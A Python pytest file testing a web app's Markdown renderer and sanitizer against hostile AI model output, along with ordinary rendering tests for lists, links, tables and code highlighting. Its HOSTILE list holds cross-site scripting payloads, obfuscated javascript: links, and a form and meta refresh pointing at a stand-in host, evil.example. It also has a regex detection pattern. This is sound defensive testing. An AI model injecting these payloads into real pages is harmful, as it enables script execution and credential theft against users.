"""Markdown rendering and its sanitizer, against hostile model output."""

from __future__ import annotations

import re

import pytest

from app.assistant.base import Source
from app.links import safe_url
from app.web.markdown import render_answer, render_markdown
from tests.web.support import ask_streamed

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body { display: none }</style>",
    '<div style="position:fixed;inset:0">overlay</div>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<a href="https://ok.example" onclick="steal()" onmouseover="steal()">hover</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<p onclick="x()">para</p>',
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '[ref][1]\n\n[1]: javascript:alert(1) "title"',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<svg|<object|<embed|<form|<input|<img|<base|<meta|\son\w+=|style=|javascript:|vbscript:|data:",
    re.I,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_defused(text):
    html = str(render_markdown(text))
    assert not FORBIDDEN.search(html), html


def test_links_keep_web_schemes_and_get_rel():
    html = str(render_markdown("[docs](https://example.com/a) [mail](mailto:t@example.com) [rel](/admin)"))
    assert '<a target="_blank" href="https://example.com/a" rel="noopener nofollow">docs</a>' in html
    assert '<a href="mailto:t@example.com" rel="noopener nofollow">mail</a>' in html
    assert 'href="/admin"' not in html and ">rel</a>" in html


def test_allowed_markdown_survives():
    text = (
        "## Heading\n\nSome *em* and **strong** and `code`.\n\n- a\n- b\n\nThen:\n1. one\n\n"
        "> quoted\n\n---\n\n"
        "```python\nprint('<hi>')\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"
    )
    html = str(render_markdown(text))
    for fragment in (
        "<h2>Heading</h2>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<code>code</code>",
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<hr>",
        '<pre tabindex="0"><code class="highlight"><span class="nb">print</span>',
        "<span class=\"s1\">'&lt;hi&gt;'</span>",
        "<table>",
        '<th align="left">a</th>',
        '<td align="right">2</td>',
    ):
        assert fragment in html, fragment


def test_lists_right_after_a_line_render_as_lists():
    html = str(render_markdown("Steps:\n- first\n- second\n\n```\nnot:\n- a list\n```"))
    assert "<p>Steps:</p>\n<ul>\n<li>first</li>" in html
    assert '<pre tabindex="0"><code>not:\n- a list' in html


def test_safe_url():
    assert safe_url("https://example.com/x") == "https://example.com/x"
    assert safe_url(" http://example.com ") == "http://example.com"
    for bad in (
        None,
        "",
        "javascript:alert(1)",
        "data:text/html,x",
        "/relative",
        "//evil.example",
        "https://",
    ):
        assert safe_url(bad) is None


def test_hostile_model_answer_is_sanitized_in_the_page(claude_app, fake_claude):
    client = claude_app.test_client()
    fake_claude.enqueue_text(
        "Here: <script>alert('x')</script>[link](javascript:alert(1)) <img src=x onerror=alert(1)>"
    )
    fragment = ask_streamed(client, "Be evil").done
    client.post("/ask", data={"question": "Be evil again"})
    page = client.get("/").get_data(as_text=True)
    for html in (fragment, page):
        # The raw answer, offered to select, is escaped text; what is rendered keeps none of the attack.
        raw = re.findall(r'<details class="raw-answer">.*?</details>', html, re.DOTALL)
        assert all("<script" not in text and "&lt;script&gt;" in text for text in raw)
        rendered = re.sub(r'<details class="raw-answer">.*?</details>', "", html, flags=re.DOTALL)
        assert "alert" not in rendered
        assert "onerror" not in rendered and "javascript:" not in rendered
    assert "<p>Here: <a" in fragment and '<details class="raw-answer">' in fragment


# As models write them: two spaces a level under bullets, three under numbers.
MODEL_LISTS = """Here is the plan:

1. Parse the documents
   - TXT files
   - PDF files
     - scanned pages are skipped
2. Chunk the lessons
  - by sentences
  - with overlap

- Done
"""


def test_nested_lists_indented_as_models_write_them_stay_nested():
    html = str(render_markdown(MODEL_LISTS))
    assert (
        "<li>Parse the documents<ul>\n<li>TXT files</li>\n<li>PDF files<ul>\n"
        "<li>scanned pages are skipped</li>" in html
    )
    assert "<li>Chunk the lessons<ul>\n<li>by sentences</li>\n<li>with overlap</li>\n</ul>" in html
    assert html.count("<ol>") == 1 and "<ul>\n<li>Done</li>\n</ul>" in html


def test_bare_urls_become_links_outside_code_but_never_twice():
    html = str(
        render_markdown(
            "See https://example.com/guide_1?x=1. Or [the docs](https://example.com/docs), "
            "`https://in.code/span` and <https://angle.example>.\n\n```\nhttps://in.fence\n```"
        )
    )
    assert '<a target="_blank" href="https://example.com/guide_1?x=1" rel="noopener nofollow">' in html
    assert "x=1</a>." in html  # the sentence's full stop is not part of the link
    assert html.count('href="https://example.com/docs"') == 1
    assert "<code>https://in.code/span</code>" in html and "https://in.fence\n</code>" in html
    assert html.count('href="https://angle.example"') == 1
    assert 'href="javascript' not in str(render_markdown("javascript:alert(1) and http://ok.example"))


def test_strikethrough_and_new_tab_links_but_in_page_citations_stay_in_the_page():
    html = str(render_markdown("~~old~~ new, ~~ not this ~~ and `~~code~~`"))
    assert "<del>old</del> new" in html and "~~ not this ~~" in html and "<code>~~code~~</code>" in html
    cited = str(
        render_answer(
            "Claim.[^1]", [Source(label="C – Lesson 1: L", course_title="C", lesson_number=1)], "k1"
        )
    )
    assert 'target="_blank"' not in cited and '<a href="#source-' in cited


def test_wide_code_and_tables_can_be_scrolled_by_keyboard():
    html = str(render_markdown("```\n" + "x" * 300 + "\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert '<pre tabindex="0"><code>' in html
    assert '<div class="table-scroll" tabindex="0"><table>' in html and "</table></div>" in html


def test_code_blocks_in_a_known_language_are_highlighted_on_the_server():
    html = str(render_markdown("```python\ndef area(r):\n    return 3.14 * r ** 2  # a <circle>\n```"))
    assert '<code class="highlight">' in html
    assert '<span class="k">def</span>' in html and '<span class="nf">area</span>' in html
    assert '<span class="c1"># a &lt;circle&gt;</span>' in html
    # Highlighting colours the text and changes none of it.
    text = re.sub(r"<[^>]+>", "", html.split("<code", 1)[1].split(">", 1)[1].split("</code>")[0])
    written = "def area(r):\n    return 3.14 * r ** 2  # a <circle>"
    assert text.replace("&lt;", "<").replace("&gt;", ">") == written


def test_code_in_no_or_an_unknown_language_stays_plain_and_model_classes_go():
    html = str(render_markdown("```klingon\nqapla'\n```\n\n```\nplain\n```"))
    assert html.count('<pre tabindex="0"><code>') == 2 and "class=" not in html
    model_html = '<code class="highlight">x</code> <span class="k">y</span> <sup class="citation">1</sup>'
    spoofed = str(render_markdown(model_html))
    assert "class=" not in spoofed


def test_a_citation_marker_inside_highlighted_code_stays_literal():
    source = Source(label="Lesson 1", course_title="C", lesson_number=1, lesson_title="L")
    html = str(render_answer("Use it.[^1]\n\n```python\nx = notes[^1]\n```", [source], "k"))
    code = re.sub(r"<[^>]+>", "", html.split("<pre", 1)[1].split(">", 1)[1])
    assert html.count('class="citation"') == 1 and code == "x = notes[^1]"
